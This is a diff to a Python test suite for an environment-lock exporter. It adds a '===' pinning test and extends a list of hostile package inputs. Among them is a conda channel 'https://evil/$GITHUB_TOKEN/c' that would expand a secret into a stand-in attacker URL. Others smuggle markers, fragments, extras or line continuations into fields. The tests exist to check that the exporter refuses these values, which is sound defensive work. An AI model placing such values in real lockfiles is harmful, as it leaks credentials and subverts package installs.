@@ -314,6 +314,16 @@ def test_requirements_refuse_an_environment_without_python_packages() -> None:
         export(env, "requirements", name="linux-64")
 
 
+def test_requirements_pin_a_version_that_is_not_pep_440_as_pip_reads_it(tmp_path: Path) -> None:
+    """``===`` (pip refuses ``==`` there), and envlock reads it back as that version."""
+    from envlock.foreign import requirements as read_requirements
+
+    text = export(_env(Package("legacy-thing", "2.0-custom_build")), "requirements")
+    assert "legacy-thing===2.0-custom_build" in text.splitlines()
+    (want,) = read_requirements.parse(text, base_dir=tmp_path).pip
+    assert (want.name, want.version) == ("legacy-thing", "2.0-custom_build")
+
+
 def test_unknown_format() -> None:
     with pytest.raises(UsageError, match="unknown export format"):
         export(_env(), "pipfile")
@@ -431,6 +441,28 @@ HOSTILE = {
     ),
     "a conda version with a query": _env(
         conda=CondaSection(packages=(replace(ZLIB, version="1.3.1?x=1"),))
+    ),
+    # found by a second audit
+    "a url with a marker": _env(
+        Package(
+            "a", "1", source=Source("archive", url='https://h/a-1-py3-none-any.whl;os_name=="x"')
+        )
+    ),
+    "a vcs url with a fragment": _env(
+        Package("c", "1", source=Source("vcs", vcs="git", url="https://h/c.git#", commit="ab12"))
+    ),
+    "a vcs url with a query": _env(
+        Package("c", "1", source=Source("vcs", vcs="git", url="https://h/c.git?", commit="ab12"))
+    ),
+    "a conda channel that expands a variable": _env(
+        conda=CondaSection(packages=(ZLIB,), channels=("https://evil/$GITHUB_TOKEN/c",))
+    ),
+    "a path with extras": _env(Package("e", "1", source=Source("directory", path="src/e[dev]"))),
+    "a subdirectory with extras": _env(
+        Package("r", "1", source=Source("vcs", url="https://h/r", subdirectory="e[boom]"))
+    ),
+    "a url that joins the next line": _env(
+        Package("a", "1", source=Source("archive", url="https://h/a-1-py3-none-any.whl\\"))
     ),
 }
 
